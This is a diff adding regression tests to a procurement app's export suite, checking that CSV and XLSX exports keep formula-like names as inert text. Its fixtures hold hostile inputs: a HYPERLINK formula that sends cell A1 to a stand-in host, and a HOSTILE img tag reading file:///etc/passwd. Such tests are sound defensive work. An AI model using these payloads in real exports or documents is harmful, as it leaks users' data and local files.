@@ -12,8 +12,10 @@ from pypdf import PdfReader
 from catalog.services import set_certification_summary
 from procurement.exports import COLUMNS
 from procurement.line_services import MaterialInput, add_material_line, add_product_line
+from procurement.services import ProjectInput, create_list, create_project
 from tests import factories
 from tests.procurement.conftest import catalogue_product, make_project_list
+from tests.spreadsheet_check import csv_rows, live_csv_formulas, live_xlsx_formulas
 
 HOSTILE = '<img src="file:///etc/passwd">'
 
@@ -166,3 +168,64 @@ def test_pdf_has_the_certificate_numbers_and_the_panel(client, exported):
         if "/BaseFont" in font.get_object()
     }
     assert any("Noto-Sans-CJK-SC" in name for name in fonts), fonts
+
+
+# --- text that a spreadsheet would run as a formula ---------------------------------------------
+
+FORMULA_NAME = '=HYPERLINK("http://x?d="&A1,"水泥")'
+
+
+@pytest.fixture
+def formula_list(client, login, session, officer, maker):
+    """Return a list whose project, product, material and supplier are named like formulas."""
+    project = create_project(
+        session=session,
+        actor=officer,
+        data=ProjectInput(
+            name="=1+2", code="GZ-2026-099", project_type="school", division_code="520100"
+        ),
+    )
+    item = create_list(session=session, actor=officer, project_id=project.id, name="@SUM(A1)")
+    cement = catalogue_product(session, maker, "cement", gwp=655, name=FORMULA_NAME)
+    add_product_line(
+        session=session,
+        actor=officer,
+        list_id=item.id,
+        product_id=cement.id,
+        quantity="10",
+        unit_price="455.50",
+    )
+    lime = factories.category(session, "lime")
+    add_material_line(
+        session=session,
+        actor=officer,
+        list_id=item.id,
+        data=MaterialInput(lime.id, "=1+2", "-2+3", Decimal("5"), Decimal("700")),
+    )
+    session.commit()
+    login(officer)
+    return item
+
+
+def test_csv_runs_no_formula(client, formula_list):
+    data = client.get(f"/procurement/lists/{formula_list.id}/export.csv").get_data()
+    assert live_csv_formulas(data) == []
+    lines = {row[3]: row for row in csv_rows(data)[1:]}
+    assert set(lines) == {"'" + FORMULA_NAME, "'=1+2"}
+    assert lines["'=1+2"][4] == "'-2+3"
+    quantity, unit, price, value = lines["'=1+2"][9:13]
+    assert [Decimal(quantity), unit, Decimal(price), Decimal(value)] == [5, "t", 700, 3500]
+
+
+def test_xlsx_runs_no_formula(client, formula_list):
+    data = client.get(f"/procurement/lists/{formula_list.id}/export.xlsx").get_data()
+    assert live_xlsx_formulas(data) == []
+    book = load_workbook(io.BytesIO(data))
+    lines = {row[3].value: row for row in book["清单"].iter_rows(min_row=2)}
+    assert set(lines) == {FORMULA_NAME, "=1+2"}  # shown as typed, kept as text
+    assert all(cell.data_type == "s" for cell in lines[FORMULA_NAME][1:6])
+    assert lines["=1+2"][4].value == "-2+3"
+    assert [cell.value for cell in lines["=1+2"][9:13]] == [5, "t", 700, 3500]
+    summary = {heading.value: text for heading, text in book["合规核查"].iter_rows()}
+    assert summary["项目"].value == "=1+2（GZ-2026-099）"
+    assert summary["清单"].value == "@SUM(A1)"
